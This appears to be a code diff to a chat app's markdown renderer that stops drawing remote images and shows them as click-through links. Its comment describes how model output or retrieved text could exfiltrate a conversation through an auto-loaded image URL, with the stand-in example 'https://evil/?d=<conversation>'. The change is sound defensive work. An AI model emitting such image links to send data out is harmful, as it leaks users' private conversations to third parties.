@@ -51,9 +51,40 @@ function Anchor({ node: _node, href, children, ...rest }: ComponentProps<'a'> & 
   );
 }
 
-function Image({ node: _node, src, alt, ...rest }: ComponentProps<'img'> & { node?: Element }) {
+const INLINE_IMAGE = /^data:image\//i;
+
+function imageHost(src: string): string {
+  try {
+    return new URL(src, window.location.href).host;
+  } catch {
+    return '';
+  }
+}
+
+/**
+ * Only images embedded in the text (`data:image/…`) are drawn. Any other image is a link the reader may open: text
+ * from a model or a retrieved document could otherwise make the browser fetch `https://evil/?d=<conversation>` with
+ * no click (issue 19 defect 9), and the CSP's `img-src 'self' data:` would block it anyway. READMEs and bios follow
+ * the same rule, being text from other people too.
+ */
+function Image({ node: _node, src, alt, title }: ComponentProps<'img'> & { node?: Element }) {
   if (!src) return alt ? <span>{alt}</span> : null;
-  return <img src={src} alt={alt ?? ''} {...rest} referrerPolicy="no-referrer" loading="lazy" />;
+  if (INLINE_IMAGE.test(src)) {
+    return <img src={src} alt={alt ?? ''} title={title} referrerPolicy="no-referrer" loading="lazy" />;
+  }
+  const host = imageHost(src);
+  return (
+    <a
+      className="md-image-link"
+      href={src}
+      target="_blank"
+      rel="noopener noreferrer nofollow"
+      referrerPolicy="no-referrer"
+      title={title ?? src}
+    >
+      {`Image: ${alt || 'untitled'}${host ? ` (${host})` : ''}`}
+    </a>
+  );
 }
 
 function Sup({ node, children, ...rest }: ComponentProps<'sup'> & { node?: Element }) {
